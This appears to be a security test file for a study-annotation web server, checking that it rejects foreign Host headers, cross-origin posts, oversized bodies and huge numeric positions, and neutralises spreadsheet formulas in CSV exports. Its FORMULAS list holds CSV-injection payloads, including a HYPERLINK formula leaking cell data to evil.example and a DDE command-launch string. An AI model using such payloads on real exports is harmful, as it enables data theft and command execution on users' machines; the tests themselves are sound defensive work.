"""Issue 23's attacks on ``refbench study serve``, each as a request: a foreign Host header, a
cross-origin post carrying a valid token, a 200 MB answer, a position past 64 bits, and answers
that are spreadsheet formulas (neutralised in both CSV exports, exact in JSON)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from refbench.web.guard import allowed_hosts
from refbench.web.study.server import create_app
from tests.conftest import run_cli
from tests.studies.conftest import client, tokens

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"x")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tlike a tab", "\rreturn")


def test_foreign_host_is_refused(kitmus_study: Path) -> None:
    c = client(kitmus_study)
    token = tokens(kitmus_study)["ann1"]
    assert c.get(f"/a/{token}/", headers={"Host": "127.0.0.1:8000"}).status_code == 200
    assert c.get(f"/a/{token}/", headers={"Host": "evil.example"}).status_code == 400
    proxied = create_app(kitmus_study, hosts=allowed_hosts("127.0.0.1", ["lab.example.org"]))
    pc = proxied.test_client()
    assert pc.get(f"/a/{token}/", headers={"Host": "lab.example.org"}).status_code == 200
    assert pc.get(f"/a/{token}/", headers={"Host": "evil.example"}).status_code == 400


def test_cross_origin_post_with_a_valid_token_is_refused(kitmus_study: Path) -> None:
    c = client(kitmus_study)
    token = tokens(kitmus_study)["ann1"]
    for headers in ({"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"},
                    {"Origin": "http://evil.example"}, {"Sec-Fetch-Site": "cross-site"}):
        r = c.post(f"/a/{token}/1", data={"answer": "0"}, headers=headers)
        assert r.status_code == 403, headers
        r = c.post(f"/a/{token}/1/answer", json={"fields": {"answer": "0"}}, headers=headers)
        assert r.status_code == 403, headers
    r = c.post(f"/a/{token}/1/answer", json={"fields": {"answer": "0"}},
               headers={"Origin": "http://localhost", "Sec-Fetch-Site": "same-origin"})
    assert r.status_code in (200, 400) and r.get_json() is not None  # reached the app


def test_huge_answer_is_413_and_not_saved(kitmus_study: Path) -> None:
    c = client(kitmus_study)
    token = tokens(kitmus_study)["ann1"]
    body = json.dumps({"fields": {"answer": "x" * (3 * 1024 * 1024)}})
    r = c.post(f"/a/{token}/1/answer", data=body, content_type="application/json")
    assert r.status_code == 413
    from refbench.studyfile.db import StudyStore

    with StudyStore(kitmus_study) as st:
        assert not list(st.all_answers())


def test_positions_past_64_bits_are_404(kitmus_study: Path) -> None:
    c = client(kitmus_study)
    token = tokens(kitmus_study)["ann1"]
    for pos in ("9" * 30, str(2**63)):
        assert c.get(f"/a/{token}/{pos}").status_code == 404
        assert c.post(f"/a/{token}/{pos}/answer", json={"fields": {}}).status_code == 404


def _read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_answers_are_neutralised_in_both_csv_exports(ae_study: Path,
                                                              tmp_path: Path) -> None:
    c = client(ae_study)
    toks = tokens(ae_study)
    for k in range(0, len(FORMULAS), 3):
        fields = {f"e{i + 1}": e for i, e in enumerate(FORMULAS[k:k + 3])}
        r = c.post(f"/a/{toks['ann1']}/{k // 3 + 1}/answer", json={"fields": fields})
        assert r.status_code == 200, r.get_json()
    admin = c.get(f"/admin/{toks['admin']}/export.csv").get_data(as_text=True)
    out = tmp_path / "answers.csv"
    res = run_cli("study", "export", str(ae_study), "--format", "csv", "--out", str(out))
    assert res.returncode == 0, res.stderr
    for text in (admin, out.read_text()):
        labels = [r["label"] for r in _read_csv(text)]
        assert labels and all(not lab.startswith(("=", "+", "-", "@", "\t", "\r"))
                              for lab in labels), labels
        assert "'" + FORMULAS[0] in labels and "'+1+1" in labels
    exact = c.get(f"/admin/{toks['admin']}/export.json").get_json()
    assert FORMULAS[0] in json.dumps(exact, ensure_ascii=False) or FORMULAS[0] in str(exact)
